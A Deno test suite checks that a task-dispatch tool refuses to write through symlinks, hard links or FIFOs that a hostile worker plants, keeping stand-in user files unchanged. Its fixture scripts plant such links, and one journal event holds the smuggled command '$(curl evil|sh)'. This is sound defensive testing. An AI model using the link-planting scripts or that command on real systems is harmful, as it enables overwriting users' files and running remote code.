/**
 * Invariant 1, first half: the trusted side (supervisor, host commands)
 * writes only inside DISPATCH_HOME, never through a link a worker planted.
 * A worker can write its own task folder; each test plants links there (or,
 * as a worker with home-wide grants could, replaces folders) pointing at a
 * "victim" folder outside the home standing for the user's files, then
 * proves nothing there changed and a refusal is one line.
 */
import assert from "node:assert/strict";
import { sandbox, startTask, waitFor, waitForState } from "../helpers.ts";
import { evilSandbox } from "./evil_sandbox.ts";
import { tempDir } from "../temp_dir.ts";
import { createExclusive, ensureDir, prepareAppend, writeAtomic } from "../../src/store/fsx.ts";
import { appendEvent, readEvents } from "../../src/store/journal.ts";
import { withLock } from "../../src/store/lock.ts";
import { compactJournal } from "../../src/store/journal_compact.ts";
import { taskPaths } from "../../src/store/paths.ts";
import { UnsafePathError } from "../../src/store/safe_path.ts";

const ORIGINAL = "# the user's own file\nexport PATH=$HOME/bin:$PATH\n";

/** A folder outside the home with two of the user's files in it, and what it holds now. */
async function victim() {
  const dir = await tempDir("dispatch-victim-");
  await Deno.writeTextFile(`${dir.path}/bashrc`, ORIGINAL);
  await Deno.writeTextFile(`${dir.path}/settings.json`, '{"theme":"dark"}\n');
  return {
    dir,
    path: dir.path,
    async contents(): Promise<Record<string, string>> {
      const out: Record<string, string> = {};
      for await (const e of Deno.readDir(dir.path)) {
        out[e.name] = e.isFile
          ? await Deno.readTextFile(`${dir.path}/${e.name}`)
          : `<${e.isDirectory ? "dir" : "?"}>`;
      }
      return out;
    },
  };
}

const UNTOUCHED = { bashrc: ORIGINAL, "settings.json": '{"theme":"dark"}\n' };

function assertOneLine(stderr: string, pattern: RegExp) {
  assert.match(stderr, /^dispatch: [A-Z][^\n]*\n$/, `one line: ${JSON.stringify(stderr)}`);
  assert.match(stderr, pattern);
}

Deno.test("symlinks: a worker's links at state.json, its temp names, exit_code and lock are replaced, never written through", async () => {
  await using v = await victim().then((x) => ({
    ...x,
    [Symbol.asyncDispose]: () => x.dir[Symbol.asyncDispose](),
  }));
  // The names an older dispatch wrote through: state.json.<supervisor pid>.<n>.tmp, exit_code.tmp.
  await using sb = await evilSandbox(`
d="$DISPATCH_HOME/tasks/$DISPATCH_TASK"; V='${v.path}'
i=0; sup=
while [ -z "$sup" ] && [ $i -lt 400 ]; do
  sup=$(sed -n 's/.*"supervisor": *\\([0-9][0-9]*\\).*/\\1/p' "$d/state.json"); i=$((i+1)); sleep 0.05
done
i=1; while [ $i -le 40 ]; do ln -s "$V/bashrc" "$d/state.json.$sup.$i.tmp"; i=$((i+1)); done
ln -sf "$V/settings.json" "$d/state.json"
ln -s "$V/bashrc" "$d/exit_code.tmp"
ln -s "$V" "$d/exit_code"
rm -f "$d/lock"; ln -s "$V/lock" "$d/lock"
sed 's/- \\[ \\]/- [x]/' "$DISPATCH_PLAN" >"$DISPATCH_PLAN.new" && mv "$DISPATCH_PLAN.new" "$DISPATCH_PLAN"
echo "All done." >"$DISPATCH_OUTPUT"
`);
  const id = await startTask(sb, "evil");
  const done = await waitForState(sb, id, ["done", "failed"]);
  assert.equal(done.state, "done", String(done.reason));
  assert.equal(done.exit_code, 0);
  assert.deepEqual(await v.contents(), UNTOUCHED);
  const dir = taskPaths(sb.home, id).dir;
  for (const name of ["state.json", "exit_code", "lock"]) {
    const info = await Deno.lstat(`${dir}/${name}`);
    assert.ok(info.isFile && !info.isSymlink, `${name} is dispatch's own file again`);
  }
});

Deno.test("symlinks: an answers/ folder replaced by a link makes 'dispatch answer' refuse in one line, writing nothing outside", async () => {
  await using v = await victim().then((x) => ({
    ...x,
    [Symbol.asyncDispose]: () => x.dir[Symbol.asyncDispose](),
  }));
  await using sb = await evilSandbox(`
d="$DISPATCH_HOME/tasks/$DISPATCH_TASK"
"$DISPATCH_BIN" ask "Which database?" --timeout 120s &
i=0; while [ ! -e "$d/work/questions/001.json" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done
rm -rf "$d/answers"; ln -s '${v.path}' "$d/answers"
wait
`);
  const id = await startTask(sb, "evil");
  const answers = taskPaths(sb.home, id).answers;
  await waitFor(
    "answers/ to be a link",
    async () => (await Deno.lstat(answers).catch(() => undefined))?.isSymlink || undefined,
  );
  const r = await sb.run(["answer", id, "Use PostgreSQL"]);
  assert.equal(r.code, 1);
  assertOneLine(r.stderr, /Refusing to write through a replaced path: .*\/answers is a symbolic link/);
  assert.deepEqual(await v.contents(), UNTOUCHED);
});

Deno.test("symlinks: a task folder replaced by a link is refused by note and answer, in one line", async () => {
  await using v = await victim().then((x) => ({
    ...x,
    [Symbol.asyncDispose]: () => x.dir[Symbol.asyncDispose](),
  }));
  await using sb = await sandbox();
  const id = await startTask(sb, "scripted-ask");
  await waitForState(sb, id, ["waiting"]);
  await sb.run(["cancel", id]);
  // What a worker with home-wide write grants can do: move its folder out and link it back.
  const dir = taskPaths(sb.home, id).dir;
  await Deno.rename(dir, `${v.path}/moved`);
  await Deno.symlink(`${v.path}/moved`, dir);
  const before = await Deno.readTextFile(`${v.path}/moved/work/plan.md`);
  const note = await sb.run(["note", id, "more context"]);
  assertOneLine(
    note.stderr,
    /Refusing to write through a replaced path: .*tasks\/[a-z0-9-]+ is a symbolic link/,
  );
  assert.equal(note.code, 1);
  assert.equal(await Deno.readTextFile(`${v.path}/moved/work/plan.md`), before);
  const answer = await sb.run(["answer", id, "Use PostgreSQL", "--question", "1"]);
  assert.notEqual(answer.code, 0);
  assert.match(answer.stderr, /^dispatch: [^\n]*\n$/);
  assert.deepEqual((await Array.fromAsync(Deno.readDir(`${v.path}/moved/answers`))).length, 0);
});

/** A home with one task folder (and its subfolders), in process. */
async function homeWithTask() {
  const dir = await tempDir("dispatch-home-");
  const p = taskPaths(dir.path, "t-0001");
  for (const d of [p.questions, p.answers, p.receipts]) await ensureDir(d);
  return { dir, p, [Symbol.asyncDispose]: () => dir[Symbol.asyncDispose]() };
}

Deno.test("symlinks: every file name the trusted side writes, linked to the user's files, is replaced, not followed", async () => {
  await using v = await victim().then((x) => ({
    ...x,
    [Symbol.asyncDispose]: () => x.dir[Symbol.asyncDispose](),
  }));
  await using h = await homeWithTask();
  const p = h.p;
  const names = [p.state, p.task, p.plan, p.prompt, p.notes, p.resume, p.geminiPolicy, `${p.receipts}/1`];
  for (const [i, path] of names.entries()) {
    await Deno.symlink(i % 2 ? `${v.path}/bashrc` : `${v.path}/new-${i}`, path); // existing and dangling
    // The temp names an older dispatch used in this process.
    for (let n = 1; n <= 60; n++) {
      await Deno.symlink(`${v.path}/bashrc`, `${path}.${Deno.pid}.${n}.tmp`).catch(() => {});
    }
  }
  for (const path of names) await writeAtomic(path, "dispatch's text\n");
  for (const path of names) {
    assert.ok((await Deno.lstat(path)).isFile, path);
    assert.equal(await Deno.readTextFile(path), "dispatch's text\n");
  }
  // An answer's name taken by a link counts as taken: exactly once, and the link is not followed.
  await Deno.symlink(`${v.path}/answer`, `${p.answers}/001.json`);
  assert.equal(await createExclusive(`${p.answers}/001.json`, "{}"), false);
  assert.equal(await createExclusive(`${p.answers}/002.json`, "{}"), true);
  assert.deepEqual(await v.contents(), UNTOUCHED);
});

Deno.test("symlinks: a folder on the way replaced by a link is refused before anything is written", async () => {
  await using v = await victim().then((x) => ({
    ...x,
    [Symbol.asyncDispose]: () => x.dir[Symbol.asyncDispose](),
  }));
  for (const which of ["answers", "receipts", "questions", "task folder", "tasks"] as const) {
    await using h = await homeWithTask();
    const p = h.p;
    const replaced = which === "task folder" ? p.dir : which === "tasks" ? `${h.dir.path}/tasks` : p[which];
    await Deno.remove(replaced, { recursive: true });
    await Deno.symlink(v.path, replaced);
    const attempts: [folder: string, what: string, attempt: () => Promise<unknown>][] = [
      ["answers", "writeAtomic", () => writeAtomic(`${p.answers}/003.json`, "x")],
      ["answers", "createExclusive", () => createExclusive(`${p.answers}/004.json`, "x")],
      ["answers", "ensureDir", () => ensureDir(`${p.answers}/deeper`)],
      ["receipts", "writeAtomic", () => writeAtomic(`${p.receipts}/3`, "x")],
      ["questions", "writeAtomic", () => writeAtomic(`${p.questions}/005.json`, "x")],
      ["task folder", "writeAtomic", () => writeAtomic(p.state, "{}")],
    ];
    // A replaced subfolder stops writes into it; a replaced task folder or tasks/ stops them all.
    const hit = attempts.filter(([folder]) =>
      folder === which || which === "task folder" || which === "tasks"
    );
    for (const [, what, attempt] of hit) {
      await assert.rejects(attempt, (e: unknown) => {
        assert.ok(e instanceof UnsafePathError, `${which}: ${what}: ${e}`);
        assert.doesNotMatch(e.message, /\n/);
        assert.match(e.message, /is a symbolic link/);
        return true;
      });
    }
    assert.deepEqual(await v.contents(), UNTOUCHED, which);
  }
});

Deno.test("symlinks: in-place files: a link or FIFO at the journal is refused, at a lock or the worker log discarded; compaction's temp is new", async () => {
  await using v = await victim().then((x) => ({
    ...x,
    [Symbol.asyncDispose]: () => x.dir[Symbol.asyncDispose](),
  }));
  await using h = await homeWithTask();
  const home = h.dir.path;
  await Deno.symlink(`${v.path}/bashrc`, `${home}/journal.jsonl`);
  await assert.rejects(
    () => appendEvent(home, { ts: 1, type: "question", task: "t-0001", text: "$(curl evil|sh)" }),
    UnsafePathError,
  );
  await Deno.remove(`${home}/journal.jsonl`);
  await Deno.link(`${v.path}/bashrc`, `${home}/journal.jsonl`); // a hard link: same file, second name
  await assert.rejects(() => appendEvent(home, { ts: 1, type: "done", task: "t-0001" }), /hard link/);
  await Deno.remove(`${home}/journal.jsonl`);
  const fifo = new Deno.Command("mkfifo", { args: [`${home}/journal.jsonl`] }).outputSync();
  if (fifo.success) { // refused by lstat, without the open that would block on a FIFO
    await assert.rejects(() => appendEvent(home, { ts: 1, type: "done", task: "t-0001" }), /special file/);
    await assert.rejects(() => readEvents(home, 0), /special file/); // a reader (the hook) does not hang either
    await Deno.remove(`${home}/journal.jsonl`);
  }
  await appendEvent(home, { ts: 2, type: "done", task: "t-0001" });
  assert.equal((await readEvents(home, 0)).entries.length, 1);
  // Compaction's temp file had a fixed name beside the journal.
  await Deno.symlink(`${v.path}/bashrc`, `${home}/journal.jsonl.compact.tmp`);
  await compactJournal(home, { keepTasks: new Set() });
  assert.equal((await readEvents(home, 0)).entries.length, 0);

  await Deno.symlink(`${v.path}/lock`, h.p.lock);
  assert.equal(await withLock(h.p.lock, () => Promise.resolve(7)), 7);
  assert.ok((await Deno.lstat(h.p.lock)).isFile);
  await Deno.symlink(`${v.path}/bashrc`, h.p.log);
  assert.equal(await prepareAppend(h.p.log), 0);
  assert.ok((await Deno.lstat(h.p.log)).isFile);
  assert.equal((await Deno.stat(h.p.log)).mode! & 0o777, 0o600);
  assert.deepEqual(await v.contents(), UNTOUCHED);
});
